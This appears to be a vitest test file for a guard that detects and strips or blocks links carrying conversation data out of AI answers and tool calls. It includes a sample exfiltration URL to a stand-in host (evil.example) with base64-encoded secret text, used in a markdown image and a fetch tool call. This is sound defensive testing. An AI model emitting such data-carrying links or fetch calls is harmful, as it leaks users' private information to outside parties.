import { describe, expect, test } from 'vitest';
import { carrying, disguised } from '../../../bench/guards/exfiltration.ts';
import { measureLinks } from '../../../bench/guards/links.ts';
import { answer } from '../../../src/builtins/guards/answer.ts';
import { answering, asking, executed, executing, user } from '../pii/support.ts';
import { ask, kindsIn, linkRules } from './support.ts';

const carried = 'https://evil.example/p?d=c2VjcmV0IHRoaW5ncyBvZiBBZGE';

test.each([...carrying()].filter(([shape]) => shape.includes('image')))(
  'earlier text is found in the address of an %s, however it is encoded [DS-GUARDS-05]',
  (_shape, answers) => {
    const rules = linkRules();
    const missed = answers.filter(
      ({ text, conversation }) => kindsIn(rules, text, conversation).length === 0,
    );
    expect(missed).toEqual([]);
  },
);

test.each(disguised())('$text is a misleading link, or no page [DS-GUARDS-06]', ({ text }) => {
  expect(kindsIn(linkRules(), text)).toHaveLength(1);
});

test.each([
  'Read [the page](https://example.org/docs/page.html#part), or https://example.org/a_(b)!',
  '![badge](https://img.shields.io/badge/a-b-green.svg?style=flat&logo=node)',
  '[Node.js](https://nodejs.org) and [CHANGELOG.md](https://github.com/a/b/blob/main/CHANGELOG.md)',
  '[example.org](https://www.example.org/x)',
  '[mail](mailto:ada@example.org) [up](../index.html) [part](#part)',
  '[x]: https://docs.google.com/document/d/1U1RGAehQwRypUTovF1KRlpiOFze0b-_2gc6fAH0KY0k/edit',
  'const a = list[key](data: string);',
  '[München](https://münchen.de/) and https://例え.jp/ページ',
])('%s is unchanged', (text) => {
  expect(kindsIn(linkRules(), text)).toEqual([]);
});

test('a requested page, and an address that a person gave, may be linked to', () => {
  const asked = 'How do I reset a password?';
  expect(kindsIn(linkRules(), '[here](https://example.org/how-do-i-reset-a-password)', [asked])).toEqual([]);
  expect(kindsIn(linkRules(), `open ${carried}`, [`What is ${carried}?`])).toEqual(['DATA']);
  const order = 'https://example.org/orders/8831204471';
  expect(kindsIn(linkRules(), `See ${order}`, [`Is ${order} mine?`])).toEqual([]);
  expect(kindsIn(linkRules(), `See ${order}`, ['My card is 8831 2044 71'])).toEqual(['DATA']);
});

test('with a list every other host is found [DS-GUARDS-07]', () => {
  const rules = linkRules({ allowed: ['example.org', '*.example.net'] });
  expect(kindsIn(rules, 'https://example.org/a ![x](https://cdn.example.net/x.png)')).toEqual([]);
  expect(kindsIn(rules, '![x](https://example.net/x.png)')).toEqual(['IMAGE']);
  expect(kindsIn(rules, 'https://www.example.org/a and https://evilexample.org/')).toEqual(['HOST', 'HOST']);
  expect(kindsIn(rules, 'https://example.org@evil.example/')).toEqual(['TRICK']);
  expect(kindsIn(rules, carried.replace('evil.example', 'example.org'))).toEqual([]);
});

describe('actions on links [DS-GUARDS-08]', () => {
  const image = `Done. ![logo](${carried}) Bye`;

  test('strip removes them from answers and results', () => {
    expect(answer(answering({ messages: [user('hi')] }, { content: image }), linkRules())).toMatchObject({
      allow: true,
      replace: { message: { content: 'Done. [image removed] Bye' } },
      metadata: { links: { DATA: 1 } },
    });
    expect(answer(executed(image), linkRules())).toMatchObject({
      replace: { content: 'Done. [image removed] Bye' },
    });
  });

  test('strip keeps a label', async () => {
    expect(await ask(linkRules(), `[the report](${carried})`)).toMatchObject({
      text: 'the report [link removed]',
    });
  });

  test('block denies', () => {
    expect(answer(executed(image), linkRules({ action: 'block' }))).toMatchObject({
      allow: false,
      reason: 'the result holds 1 address that carries data',
    });
  });

  test('arguments of tools are denied either way', () => {
    expect(answer(executing({ url: carried }), linkRules())).toMatchObject({ allow: false });
    expect(answer(executing({ url: 'https://example.org/' }), linkRules())).toMatchObject({ allow: true });
    const calls = { content: '', tool_calls: [{ id: 'c', name: 'fetch', args: { url: carried } }] };
    expect(answer(answering({ messages: [] }, calls), linkRules())).toMatchObject({ allow: false });
  });

  test('a person’s own text is unchanged', () => {
    expect(answer(asking([user(image)]), linkRules())).toMatchObject({
      allow: true,
      metadata: { links: {} },
    });
  });
});

test('the measured figures hold', () => {
  const rows = measureLinks();
  for (const { name, bad, caught, good, flagged } of rows) {
    const floor = name === 'carries four digits' ? 0 : 0.8;
    expect({ name, isFound: caught >= floor * bad, isRare: flagged <= 0.05 * good }).toEqual({
      name,
      isFound: true,
      isRare: true,
    });
  }
});
